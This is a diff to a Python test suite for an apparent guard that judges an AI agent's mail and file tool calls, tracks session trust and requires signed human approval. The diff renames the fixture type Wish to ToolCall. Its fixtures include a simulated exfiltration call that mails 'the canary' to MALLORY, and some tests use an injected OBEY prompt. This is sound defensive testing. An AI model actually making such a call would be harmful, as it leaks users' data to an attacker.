@@ -15,7 +15,7 @@ from typing import Any
 
 import pytest
 from opentelemetry import trace
-from tests.integrations.world import BOB, MALLORY, Harness, Wish, World, spans, traced
+from tests.integrations.world import BOB, MALLORY, Harness, ToolCall, World, spans, traced
 
 from inbounds import ConfigurationError, Unreachable
 from inbounds.errors import InboundsError, InvalidAnswer, ResultWithheld
@@ -23,11 +23,11 @@ from inbounds.evidence.report import Refused
 from inbounds.pep.labelled import Labelled
 from inbounds.pep.tool_run import current_tool_run
 
-READ = Wish("mail.read", {"id": "42"}, "call-read")
-SEND = Wish("mail.send", {"to": [BOB], "body": "hello"}, "call-send")
-STEAL = Wish("mail.send", {"to": [MALLORY], "body": "the canary"}, "call-steal")
-WRITE = Wish("file.write", {"path": "/work/notes/a", "text": "x"}, "call-write")
-ODD = Wish("mail.odd", {"id": "42"}, "call-odd")
+READ = ToolCall("mail.read", {"id": "42"}, "call-read")
+SEND = ToolCall("mail.send", {"to": [BOB], "body": "hello"}, "call-send")
+STEAL = ToolCall("mail.send", {"to": [MALLORY], "body": "the canary"}, "call-steal")
+WRITE = ToolCall("file.write", {"path": "/work/notes/a", "text": "x"}, "call-write")
+ODD = ToolCall("mail.odd", {"id": "42"}, "call-odd")
 
 SPANS = ("execute_tool mail.send", "tools/call mail.send", "invoke_agent desk")
 """Where a framework has spans of its own, the one that a decision is within: that of the tool, or
@@ -50,7 +50,7 @@ def codes(refused: Iterable[Refused]) -> list[str]:
 
 def test_an_allowed_call_runs_once_with_what_was_judged(harness: Harness) -> None:
     with harness.world.task():
-        seen = harness.run([Wish("mail.send", {"to": ["bob@ACME.example"], "body": "hi"}, "c")])
+        seen = harness.run([ToolCall("mail.send", {"to": ["bob@ACME.example"], "body": "hi"}, "c")])
 
     assert [("mail.send", {"to": [BOB], "body": "hi"})] == harness.world.ran
     assert {"c": "sent"} == seen.read
@@ -61,7 +61,7 @@ def test_what_the_tool_itself_adds_is_judged_as_well(harness: Harness) -> None:
     A default of the tool's runs, and so the policy has seen it.
     """
     with harness.world.task() as task:
-        harness.run([Wish("file.write", {"path": "/work/a"}, "c")])
+        harness.run([ToolCall("file.write", {"path": "/work/a"}, "c")])
         assert 1 == task.report().ran
 
     assert [("file.write", {"path": "/work/a", "text": "nothing"})] == harness.world.ran
@@ -389,7 +389,7 @@ def test_approve_without_a_signed_approval_does_not_run(harness: Harness) -> Non
 
 def test_what_a_person_has_refused_stays_refused(harness: Harness) -> None:
     with harness.world.wary():
-        again = Wish("mail.send", SEND.arguments, "call-again")
+        again = ToolCall("mail.send", SEND.arguments, "call-again")
         harness.run([SEND], [again])
         # Somebody signs all the same; what the person at the run has said is heard.
         harness.world.signs = True
@@ -474,7 +474,7 @@ def test_a_conversation_does_not_go_on_in_another_session(harness: Harness) -> N
         harness.run([READ])
     with harness.world.task(prompt=OBEY) as task:
         seen = harness.run([SEND], again=True)
-        state = harness.world.guard._parts.sessions.load(task.session)
+        state = harness.world.guard._runtime.sessions.load(task.session)
 
     assert ["mail.read"] == names(harness)
     if harness.names_conversations:
@@ -517,7 +517,7 @@ def test_history_that_no_guard_has_seen_counts_as_untrusted(harness: Harness) ->
     harness.bare([READ])
     with harness.world.task(prompt=OBEY) as task:
         harness.run([SEND], again=True)
-        state = harness.world.guard._parts.sessions.load(task.session)
+        state = harness.world.guard._runtime.sessions.load(task.session)
 
     assert ["mail.read"] == names(harness)
     assert ("untrusted", "secret") == (state.trust, state.label)
@@ -527,7 +527,7 @@ def test_a_first_turn_without_a_call_costs_no_trust(harness: Harness) -> None:
     with harness.world.task(conversation="chat") as task:
         harness.run([])
         harness.run([SEND], again=True)
-        state = harness.world.guard._parts.sessions.load(task.session)
+        state = harness.world.guard._runtime.sessions.load(task.session)
 
     assert ["mail.send"] == names(harness)
     assert "trusted" == state.trust
